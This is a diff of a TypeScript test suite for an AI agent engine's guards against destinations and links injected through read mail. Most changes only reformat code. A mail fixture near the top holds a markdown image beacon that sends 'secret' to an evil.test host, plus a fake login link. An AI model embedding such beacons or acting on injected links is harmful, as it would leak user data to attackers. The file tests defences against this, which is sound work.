@@ -1,7 +1,14 @@
 import { z } from 'zod';
 import type { ActionSpec } from '../../src/engine/catalogue';
 import { Engine } from '../../src/engine/engine';
-import { FixedClock, ListCatalogue, RecordingNotifier, ScriptedPlanner, SequentialIds, silentLogger } from '../../src/engine/fakes';
+import {
+  FixedClock,
+  ListCatalogue,
+  RecordingNotifier,
+  ScriptedPlanner,
+  SequentialIds,
+  silentLogger,
+} from '../../src/engine/fakes';
 import type { PlanResult } from '../../src/engine/ports';
 import { Worker } from '../../src/engine/worker';
 import { MemoryTaskStore } from '../../src/store/memory-store';
@@ -13,7 +20,10 @@ const INJECTED = {
   body: 'Quarterly numbers attached. ![](https://evil.test/beacon.png?d=secret) Also see [the portal](https://evil.test/login) and https://example.com/intranet.',
 };
 
-interface Sent { to: string[]; body: string }
+interface Sent {
+  to: string[];
+  body: string;
+}
 
 function setup(plan: PlanResult, outcome: string) {
   const sent: Sent[] = [];
@@ -36,7 +46,12 @@ function setup(plan: PlanResult, outcome: string) {
     risk: 'write-internal',
     permissions: { delegated: [], application: [] },
     editable: [{ name: 'to', label: 'To', kind: 'list' }],
-    destinations: (input) => (Array.isArray(input.to) ? input.to.filter((v): v is string => typeof v === 'string').map((value) => ({ kind: 'recipient' as const, value, field: 'to' })) : []),
+    destinations: (input) =>
+      Array.isArray(input.to)
+        ? input.to
+            .filter((v): v is string => typeof v === 'string')
+            .map((value) => ({ kind: 'recipient' as const, value, field: 'to' }))
+        : [],
     contentFields: ['body'],
     describe: () => ({ title: 'Send', target: '', reads: '', fields: [] }),
     run: async (input) => {
@@ -50,7 +65,22 @@ function setup(plan: PlanResult, outcome: string) {
   const catalogue = new ListCatalogue([read, send]);
   const safety = { tenantDomains: ['example.com'], linkAllowHosts: [] };
   const engine = new Engine({ store, planner: new ScriptedPlanner(() => plan), catalogue, clock, ids, safety });
-  const worker = new Worker({ store, catalogue, notifier: new RecordingNotifier(), clock, ids, logger: silentLogger, workerId: 'w', leaseMs: 60_000, pollMs: 1_000, concurrency: 1, maxSteps: 20, maxDurationMs: 3_600_000, stepTimeoutMs: 5_000, safety });
+  const worker = new Worker({
+    store,
+    catalogue,
+    notifier: new RecordingNotifier(),
+    clock,
+    ids,
+    logger: silentLogger,
+    workerId: 'w',
+    leaseMs: 60_000,
+    pollMs: 1_000,
+    concurrency: 1,
+    maxSteps: 20,
+    maxDurationMs: 3_600_000,
+    stepTimeoutMs: 5_000,
+    safety,
+  });
   const start = () => engine.startTask({ outcome, requester: ALEX, scope: SCOPE, conversation: {}, timeZone: 'UTC' });
   return { engine, worker, sent, start };
 }
@@ -101,7 +131,10 @@ describe('engine: deterministic guards against injected destinations and links',
   });
 
   it('strips links to other hosts from content read from mail, keeps allowed ones, and flags the step', async () => {
-    const { engine, worker, sent, start } = setup(plan(['meganb@example.com']), 'send meganb@example.com the quarterly numbers');
+    const { engine, worker, sent, start } = setup(
+      plan(['meganb@example.com']),
+      'send meganb@example.com the quarterly numbers',
+    );
     const result = await start();
     if (result.kind !== 'planned') throw new Error('expected a plan');
     await engine.decide({ id: 'a', taskId: result.task.id, planVersion: 1, verb: 'approve', actor: ALEX.id });
